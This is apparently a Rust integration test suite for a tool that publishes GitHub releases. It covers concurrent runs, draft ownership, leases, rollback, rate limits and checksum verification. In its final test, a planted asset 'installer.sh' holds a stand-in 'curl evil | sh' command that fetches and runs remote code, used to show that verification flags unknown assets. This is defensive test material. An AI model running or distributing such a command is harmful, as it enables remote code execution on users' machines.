//! Drafts that others made or work on: one run writes on a draft at a time, and never on a foreign one.

use crate::harness::{Repo, World, forge, greeter, house, undisturbed};
use crate::running::patiently;

const RUN: [&str; 3] = ["run", "--skip", "gates"];

/// The same tag, made of other bytes.
const OTHER: [&str; 5] = ["run", "--skip", "gates", "--set", "build.optimise=debug"];

fn uploads(world: &World) -> usize {
    world.effects().iter().filter(|words| words.contains("uploaded to")).count()
}

#[test]
fn a_draft_made_by_hand_is_named_and_not_touched() {
    let (world, repo) = house(&[]);
    let draft = world.draft("v1.0.0", "my own words");
    world.upload(draft, "by-hand.txt", "x");
    let (before, effects) = (world.releases(), world.effects());
    repo.run(&world, &RUN).exits(10).says("a draft of v1.0.0 is there, made by").says("delete the draft");
    assert_eq!((world.releases(), world.effects()), (before, effects));
}

#[test]
fn a_token_that_may_only_read_is_told_before_anything_is_built() {
    let (world, repo) = house(&[]);
    let token = [("GITHUB_TOKEN", world.reader_token())];
    let ran = repo.run_with(&world, &token, &RUN).exits(10).says("permissions: { contents: write }");
    assert!(!format!("{}{}", ran.out, ran.err).contains(world.reader_token()));
    assert_eq!(world.releases(), []);
}

#[test]
fn of_two_drafts_for_one_tag_one_is_left() {
    the_first_draft_is_left(&[]);
}

/// A run finds two drafts of its own, and goes on with the first one.
pub fn the_first_draft_is_left(faults: &[&str]) {
    let (world, repo) = house(faults);
    let mark = repo.mark("v1.0.0");
    let first = world.draft("v1.0.0", &mark);
    world.draft("v1.0.0", &mark);
    repo.run(&world, &RUN).exits(0);
    assert_eq!(world.number(), first);
    assert_eq!(world.release().assets, undisturbed());
}

#[test]
fn two_runs_with_the_same_bytes_make_one_release() {
    let (world, repo) = house(&["POST */assets=delay:100ms"]);
    let other = repo.fresh_clone();
    let (one, two) = (repo.start(&world, &RUN), other.start(&world, &RUN));
    let ends = [one.end(), two.end()];
    let why = |repo: &Repo| {
        let journal = repo.dist("journal.jsonl");
        journal
            .lines()
            .filter(|line| line.contains("fail"))
            .map(|line| format!("{line}\n"))
            .collect::<String>()
    };
    let good = ends.contains(&Some(0)) && ends.iter().all(|end| matches!(end, Some(0 | 30)));
    assert!(good, "{ends:?}\n{}\n{}", why(&repo), why(&other));
    assert_eq!(world.release().assets, undisturbed());
    assert_eq!(world.effects().iter().filter(|words| words.contains("ublished")).count(), 1);
}

#[test]
fn of_two_runs_with_other_bytes_one_wins() {
    // Long enough for the second one to find the first at work.
    let (world, repo) = house(&["POST */assets#2-999=delay:1s"]);
    let other = repo.fresh_clone();
    // Built before, or on a busy machine the second would come to a release that is public already.
    repo.run(&world, &[&RUN[..], &["--to", "changelog"]].concat()).exits(0);
    other.run(&world, &[&OTHER[..], &["--to", "changelog"]].concat()).exits(0);
    let (one, two) = (repo.start(&world, &RUN), other.start(&world, &OTHER));
    let (one, two) = (one.end(), two.end());
    let winner = match (one, two) {
        (Some(0), Some(30)) => &repo,
        (Some(30), Some(0)) => &other,
        ends => panic!("{ends:?}"),
    };
    let release = world.release();
    assert_eq!(release.assets.len(), 14);
    for (name, digest) in winner.checksums() {
        assert_eq!(release.assets[&name], format!("sha256:{digest}"), "{name}");
    }
    assert_eq!(uploads(&world), 14, "nothing of the other one was ever there: {:#?}", world.effects());
}

#[test]
fn a_run_that_lost_its_draft_says_so_however_it_finds_out() {
    for public in [false, true] {
        let (world, repo) = house(&["POST */assets#4-999=delay:2s"]);
        let mut running = repo.start(&world, &RUN);
        running.wait_for("uploads are under way", || world.requests("POST", "/assets") >= 5);
        let number = world.number();
        world.replace(number, "release-evidence.json", "of another run");
        if public {
            let path = format!("/api/v3/repos/acme/greeter/releases/{number}");
            assert_eq!(world.call("PATCH", &path, "{\"draft\": false}")["draft"], false);
        }
        assert_eq!(running.end(), Some(30), "public: {public}");
        assert!(repo.dist("journal.jsonl").contains("another run has taken over the release"));
    }
}

#[test]
fn nothing_is_taken_back_from_under_a_run() {
    let (world, repo) = house(&["POST */assets=delay:300ms"]);
    let args = [&RUN[..], &["--set", "release.github.lease=60s"]].concat();
    repo.start(&world, &args).kill_when("three uploads began", || world.requests("POST", "/assets") >= 3);
    // It may live, for all that another machine knows; and it makes the very same.
    let other = repo.fresh_clone();
    for args in [&["rollback", "--yes"][..], &["rollback"]] {
        other.run(&world, args).exits(30).says("another run holds the release").says("its draft is free in ");
    }
    assert_eq!(world.requests("DELETE", "/releases"), 0, "{:#?}", world.effects());
    // The folder is its own: whoever worked there is over.
    repo.run(&world, &["rollback", "--yes"]).exits(0).says("removed the draft of v1.0.0");
    assert_eq!(world.releases(), []);
}

#[test]
fn a_draft_of_the_commit_that_the_tag_was_at_is_named() {
    let (world, repo) = house(&[]);
    let draft = world.draft("v1.0.0", "<!-- release-action tag=v1.0.0 commit=0123 -->");
    for args in [&["rollback"][..], &["rollback", "--yes"]] {
        let ran = repo.run(&world, args);
        ran.says("made by release-action from another commit").says("delete that draft by hand");
    }
    repo.run(&world, &["rollback", "--yes"]).exits(20);
    assert_eq!(world.number(), draft);
}

#[test]
fn a_killed_run_keeps_its_draft_from_other_bytes_for_a_while_only() {
    let (world, repo) = house(&["POST */assets=delay:300ms"]);
    let lease = ["--set", "release.github.lease=40s"];
    let args = [&RUN[..], &lease].concat();
    let other = repo.fresh_clone();
    repo.start(&world, &args).kill_when("three uploads began", || world.requests("POST", "/assets") >= 3);
    other
        .run(&world, &[&OTHER[..], &lease].concat())
        .exits(30)
        .says("another run holds the release of v1.0.0");
    // Nobody renews it: after a while it is free.
    let mut code = 30;
    patiently("the lease has ended", || {
        code = other.run(&world, &[&OTHER[..], &lease].concat()).code;
        code != 30
    });
    assert_eq!(code, 0);
    let release = world.release();
    for (name, digest) in other.checksums() {
        assert_eq!(release.assets[&name], format!("sha256:{digest}"), "{name}");
    }
    assert_eq!(release.assets.len(), 14);
}

#[test]
fn the_same_folder_may_go_on_with_other_bytes_at_once() {
    let (world, repo) = house(&["POST */assets=delay:300ms"]);
    repo.start(&world, &RUN).kill_when("three uploads began", || world.requests("POST", "/assets") >= 3);
    repo.run(&world, &OTHER).exits(0);
    assert_eq!(world.release().assets.len(), 14);
    for (name, digest) in repo.checksums() {
        assert_eq!(world.release().assets[&name], format!("sha256:{digest}"), "{name}");
    }
}

#[test]
fn uploads_that_waited_ask_again_whose_draft_it_is() {
    // The evidence is the first upload; the next one takes its time, and three more wait for their turn.
    let (world, repo) = house(&["POST */assets#2=delay:60s"]);
    let mut running = repo.start(&world, &RUN);
    let waiting = || {
        let asset = |line: &&serde_json::Value| {
            line["event"] == "intent" && line["task"].as_str().is_some_and(|task| task.contains("/asset/"))
        };
        repo.journal().iter().filter(asset).count()
    };
    // Before it is meant, each has looked at the draft.
    running.wait_for("four uploads", || waiting() >= 4);
    let claim = "release-action works here: plan=00000000000000aa dist=00000000000000bb by=00000000000000cc \
                 run=local turn=99 over=- term=300 beat=0";
    world.relabel("release-evidence.json", claim);
    world.hurry();
    assert_eq!(running.end(), Some(30));
    assert_eq!(uploads(&world), 2, "only what was under way: {:#?}", world.effects());
    assert!(world.releases().iter().all(|release| release.draft));
}

#[test]
fn a_limit_that_lasts_is_told_and_not_hammered() {
    let (world, repo) = house(&["POST */assets#3-999=rate-limit:7200"]);
    repo.run(&world, &RUN).exits(16).says("the rate limit is used up and ends at").says("run again when");
    assert!(world.requests("POST", "/assets") <= 14, "one call of each asset at most");
}

#[test]
fn a_run_stays_within_its_estimate_of_calls() {
    let world = forge();
    let repo = greeter();
    world.seed(&repo);
    repo.run(&world, &RUN).exits(0);
    let calls = world.calls();
    let told = repo.journal().iter().find_map(|line| {
        let row = &line["verdict"]["rows"][0];
        (row["metric"] == "API calls").then(|| row["threshold"].as_str().unwrap().to_owned())
    });
    let estimate: usize = told.unwrap().split(' ').next().unwrap().parse().unwrap();
    assert!(calls <= estimate, "{calls} calls, {estimate} estimated");
    assert!(world.requests("GET", "/repos/acme/greeter/releases") < 200);
}

#[test]
fn a_stranger_among_the_assets_fails_verification() {
    let (world, repo) = house(&[]);
    repo.run(&world, &RUN).exits(0);
    repo.run(&world, &["verify", "v1.0.0"]).exits(0);
    world.upload(world.number(), "installer.sh", "curl evil | sh");
    repo.run(&world, &["verify", "v1.0.0"]).exits(18).says("installer.sh is on the release, but neither in");
}
